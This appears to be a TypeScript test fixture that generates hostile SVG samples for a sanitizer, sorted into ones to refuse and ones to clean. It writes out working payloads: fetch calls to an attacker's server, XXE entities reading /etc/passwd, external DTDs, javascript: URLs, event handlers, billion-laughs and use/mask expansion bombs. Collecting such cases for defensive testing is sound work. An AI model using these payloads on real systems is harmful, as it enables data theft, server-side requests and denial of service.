const around = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50" ${attributes}>${inside}</svg>`;
const box = '<rect width="100" height="50" fill="#c00"/>';
const bomb = (attribute: string) =>
  Array.from({ length: 10 }, (_, i) => `<g id="b${i + 1}">${`<use ${attribute}="#b${i}"/>`.repeat(10)}</g>`).join('');

/**
 * SVGs of an attacker whose server at `url` waits for requests. `refused` must not be drawn at all;
 * `cleaned` is drawn without its hostile parts.
 */
export const hostileSvgs = (url: string): { refused: Record<string, string>; cleaned: Record<string, string> } => ({
  refused: {
    'a picture from elsewhere': around(`<image href="${url}/image.png" width="10" height="10"/>`),
    'a picture by XLink': around(`<image xlink:href="${url}/xlink.png" width="10" height="10"/>`),
    'a picture within': around('<image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>'),
    'an SVG within': around('<image href="data:image/svg+xml,%3Csvg%3E%3C/svg%3E" width="10" height="10"/>'),
    'a file of the server': around('<image href="file:///etc/passwd" width="10" height="10"/>'),
    'use of elsewhere': around(`<use href="${url}/shapes.svg#a"/>`),
    'use of elsewhere by XLink': around(`<use xlink:href="${url}/shapes.svg#a"/>`),
    'use of data': around('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    'use of a script': around('<use href="javascript:alert(1)"/>'),
    'a gradient from elsewhere': around(`<linearGradient id="g" href="${url}/g.svg#g"/>${box}`),
    'a drawing within a drawing': around(`<svg>${box}</svg>`),
    text: around('<text y="20" font-family="Whatever">Hello</text>'),
    'a font': around(`<font-face font-family="x"/><font><glyph/></font>`),
    'a frame': around(`<iframe src="${url}/frame"/>`),
    'sound and video': around(`<video src="${url}/video.mp4"/>`),
    'an unknown element': around('<blink/>'),
    'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${around('<title>&c;</title>')}`,
    'a file as an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${around('<desc>&x;</desc>')}`,
    'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${url}/x.dtd"> %x;]>${around(box)}`,
    'a lower-case declaration': `<!doctype svg [<!entity x "y">]>${around(box)}`,
    'a bomb of use': around(`<rect id="b0" width="1" height="1"/>${bomb('href')}<use href="#b10"/>`),
    'a bomb of use by XLink': around(`<rect id="b0" width="1" height="1"/>${bomb('xlink:href')}<use xlink:href="#b10"/>`),
    'a bomb of masks': around(
      `${Array.from({ length: 12 }, (_, i) => `<mask id="m${i + 1}">${`<rect width="9" height="9" mask="url(#m${i})"/>`.repeat(10)}</mask>`).join('')}<rect width="9" height="9" mask="url(#m12)"/>`,
    ),
    'what uses itself': around('<g id="a"><use href="#a"/></g>'),
    'elements that use each other in a circle': around('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    'a hundred thousand elements': around('<path d="M0 0"/>'.repeat(25_000)),
    'a well': around(`${'<g>'.repeat(9000)}${box}${'</g>'.repeat(9000)}`),
    'a size without end': `<svg xmlns="http://www.w3.org/2000/svg" width="99999999999" height="99999999999">${box}</svg>`,
    'no size': `<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%">${box}</svg>`,
    'a hair': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100000 1">${box}</svg>`,
    'no SVG': '<html><body onload="alert(1)"/></html>',
    'half of one': around(box).slice(0, -20),
    'an entity that is not declared': around('<title>&nbsp;</title>'),
    nothing: around('<script>alert(1)</script>'),
  },
  cleaned: {
    'a script': around(`<script>fetch('${url}/script')</script>${box}`),
    'a script from elsewhere': around(`<script href="${url}/script.js"/>${box}`),
    'event handlers': around(
      `<rect width="100" height="50" fill="#c00" onclick="fetch('${url}/click')" onload="alert(1)"/>`,
      `onload="fetch('${url}/load')"`,
    ),
    'HTML within': around(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${url}/html.png"/></body></foreignObject>${box}`,
    ),
    'a style sheet from elsewhere': around(
      `<style>@import url(${url}/import.css); .a{fill:#c00}</style><rect class="a" width="100" height="50"/>`,
    ),
    'a font from elsewhere': around(
      `<style>@font-face{font-family:x;src:url(${url}/font.woff)} .a{fill:#c00}</style><rect class="a" width="100" height="50"/>`,
    ),
    'a background from elsewhere': around(`<rect width="100" height="50" style="fill:#c00;background:url(${url}/back.png)"/>`),
    'paint from elsewhere': around(
      `<rect width="100" height="50" fill="#c00"/><rect width="50" height="50" fill="url(${url}/paint.svg#p)"/>`,
    ),
    'paint from elsewhere with escaped letters': around(`${box}<rect width="9" height="9" style="fill:u\\72l(${url}/sign.svg#p)"/>`),
    'a mask from elsewhere': around(`<rect width="100" height="50" fill="#c00" mask="url('${url}/mask.svg#m')"/>`),
    'a filter that fetches': around(
      `<filter id="f"><feImage href="${url}/filter.png"/></filter><rect width="100" height="50" fill="#c00" filter="url(#f)"/>`,
    ),
    'a style sheet by instruction': `<?xml-stylesheet href="${url}/sheet.css"?>${around(box)}`,
    'a document type from elsewhere': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${url}/svg11.dtd">${around(box)}`,
    'what moves': around(
      `<rect width="100" height="50" fill="#c00"><animate attributeName="href" to="${url}/moved"/><set attributeName="onload" to="alert(1)"/></rect>`,
    ),
    'a link': around(`<a href="javascript:alert(1)" xlink:href="${url}/link">${box}</a>`),
    'a base': around(box, `xml:base="${url}/"`),
    'another language': around(`<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="${url}/x.png"/>${box}`),
    'a pattern of patterns': around(`<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern>${box}`),
    'dashes without number': around(`${box}<path d="M0 0H1000000" stroke="#000" stroke-dasharray="0.000001"/>`),
    'a cdata section': around(`<style><![CDATA[.a{fill:#c00}]]></style><rect class="a" width="100" height="50"/>`),
  },
});
